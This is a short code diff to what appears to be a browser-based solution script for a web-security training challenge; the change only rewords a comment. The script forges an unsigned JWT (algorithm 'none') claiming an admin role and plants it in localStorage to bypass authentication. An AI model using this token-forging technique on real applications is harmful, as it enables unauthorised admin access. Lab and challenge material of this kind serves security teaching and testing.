@@ -6,7 +6,7 @@ const part = (content: object) => Buffer.from(JSON.stringify(content)).toString(
 export const browserProof = proveInBrowser(challenge, async ({ client, open, page }) => {
   await open('/about')
   await page.locator('h1').first().waitFor()
-  // A role that somebody writes into the own browser, while the page is open.
+  // The player writes a forged role into their own browser while the page is open.
   const data = { id: 1, role: 'admin', email: `admin@${client.domain}` }
   const token = `${part({ alg: 'none' })}.${part({ data })}.`
   await page.evaluate((text) => localStorage.setItem('token', text), token)
